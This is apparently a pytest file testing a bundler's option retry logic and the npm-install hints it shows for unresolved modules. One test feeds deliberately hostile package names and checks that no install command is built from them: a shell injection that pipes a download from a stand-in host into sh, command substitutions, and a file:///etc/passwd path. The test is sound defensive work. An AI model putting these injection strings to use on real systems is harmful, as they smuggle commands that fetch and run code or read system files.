from __future__ import annotations

from pathlib import Path

import pytest

from runtime.bundle.command import explain, next_options, options

ROOT = Path("/x/integrations")


def unresolved(*names: str) -> str:
    return "\n".join(f'✘ [ERROR] Could not resolve "{name}"\n' for name in names)


def test_what_the_sandbox_has_stays_outside() -> None:
    assert {"--external:crypto", "--external:node:crypto", "--external:util/types"} <= set(options())
    assert not any("fs" in option for option in options())


def test_a_package_that_wants_node_is_tried_again_with_its_modules_for_browsers() -> None:
    again = next_options(options(), unresolved("node:fs", "http"))
    assert again == [*options(), "--main-fields=browser,module,main"]


def test_what_only_node_has_stays_a_require_in_the_end() -> None:
    second = next_options(options(), unresolved("fs")) or []
    third = next_options(second, unresolved("node:fs")) or []
    assert third[len(second) :] == ["--external:fs", "--external:node:fs"]
    assert next_options(third, unresolved("node:fs")) is None


@pytest.mark.parametrize("said", ["", unresolved("lodash"), unresolved("./fs"), 'ERROR: Unexpected "}"'])
def test_other_errors_are_final(said: str) -> None:
    assert next_options(options(), said) is None


@pytest.mark.parametrize(
    ("said", "hint"),
    [
        (unresolved("lodash/fp"), "npm install --prefix /x/integrations --ignore-scripts lodash"),
        (unresolved("@a/b/c", "@a/b", "d"), "npm install --prefix /x/integrations --ignore-scripts @a/b d"),
        (unresolved("../x"), "Files must lie inside /x/integrations"),
        ('✘ [ERROR] Cannot read file "../x.js": permission denied', "Files must lie inside /x/integrations"),
    ],
)
def test_errors_say_what_to_do(said: str, hint: str) -> None:
    assert hint in explain(said, ROOT).splitlines()[-1]


@pytest.mark.parametrize(
    "name", ["x; curl evil.test|sh #", "$(id)", "--global", "file:///etc/passwd", "@a b/c", "`id`"]
)
def test_no_command_to_paste_is_made_of_what_is_no_packages_name(name: str) -> None:
    assert "npm install" not in explain(unresolved(name), ROOT)
    hint = explain(unresolved(name, "JSONStream"), ROOT)
    assert "--ignore-scripts JSONStream\n" in hint


def test_that_it_cannot_look_above_the_folder_is_no_error_to_show() -> None:
    said = f'✘ [ERROR] Cannot read directory "..": permission denied\n\n{unresolved("x")}'
    assert explain(said, ROOT).startswith('✘ [ERROR] Could not resolve "x"')
